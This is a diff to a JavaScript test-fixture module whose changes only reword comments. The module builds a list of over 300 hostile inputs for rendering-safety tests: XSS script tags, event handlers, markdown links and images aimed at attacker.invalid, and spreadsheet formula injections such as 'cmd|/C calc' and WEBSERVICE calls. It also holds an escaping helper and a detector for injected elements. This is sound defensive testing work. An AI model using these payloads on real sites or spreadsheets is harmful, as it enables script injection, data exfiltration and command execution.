@@ -1,5 +1,6 @@
-// What a hostile visitor, agent, crawled page or setting may hold: more than 300 texts that would run, call out,
-// lead astray or calculate if anything took them for more than text. Each calls `hit()` or asks attacker.invalid.
+// More than 300 hostile texts for questions, messages, crawled pages and settings. Each text would run a script,
+// load a file, lead to another site or be a formula if it were treated as more than text. Each one calls `hit()` or
+// refers to attacker.invalid.
 
 const TAGS = [
   "<script>hit()</script>", "<SCRIPT SRC=//attacker.invalid/a.js></SCRIPT>", "<script>/*</script><script>*/hit()</script>", "</script><script>hit()</script>",
@@ -31,7 +32,7 @@ const ADDRESSES = [
 const FORMS = [(to) => `[a link](${to})`, (to) => `![a picture](${to})`, (to) => `<${to}>`, (to) => `[again](<${to}>)`, (to) => `[x][1]\n\n[1]: ${to}`, (to) => `**[bold *and*](${to} "title")** ${to}`];
 const LINKS = ADDRESSES.flatMap((address) => FORMS.map((form) => form(address)));
 
-/** For spreadsheets; each is to be the beginning of a cell. */
+/** Formulas for spreadsheets. Each one is the beginning of a cell. */
 export const FORMULAS = [
   "=1+1", "=HYPERLINK(\"https://attacker.invalid\",\"hit\")", "=cmd|'/C calc'!A0", "+1+1", "+cmd|'/C calc'!A0", "-1+1", "-2+3+cmd|'/C calc'!D2", "@SUM(1+1)*cmd|'/C calc'!A0", "@hit",
   "\t=1+1", "\r=1+1", " =1+1", "\u00a0=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "=WEBSERVICE(\"https://attacker.invalid\")", "=IMPORTXML(\"https://attacker.invalid\",\"//a\")",
@@ -40,7 +41,7 @@ export const FORMULAS = [
 
 export const PAYLOADS = [...new Set([...TAGS, ...HANDLERS, ...LINKS, ...FORMULAS])];
 
-/** The payloads in as few texts as `limit` characters allow, a blank line between two. */
+/** Joins the payloads into as few texts of at most `limit` characters as possible, separated by blank lines. */
 export function texts(limit, payloads = PAYLOADS) {
   const made = [];
   for (const payload of payloads.filter(({ length }) => length <= limit)) {
@@ -51,13 +52,13 @@ export function texts(limit, payloads = PAYLOADS) {
   return made;
 }
 
-/** As the text of an HTML page says it. */
+/** Escapes a text for an HTML page. */
 export const escaped = (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll("\"", "&quot;");
 
-/** To run in a page before its own scripts: counts what ran. */
+/** A script that runs in a page before its own scripts and counts the calls of `hit()`. */
 export const TRAP = "globalThis.hits = 0; globalThis.hit = () => { globalThis.hits++; };";
 
-/** What of a page, shadow roots included, is more than text should be able to make. */
+/** Lists the elements and attributes of a page, including shadow roots, that text must never create. */
 export function strange(page) {
   return page.evaluate(() => {
     const found = [];
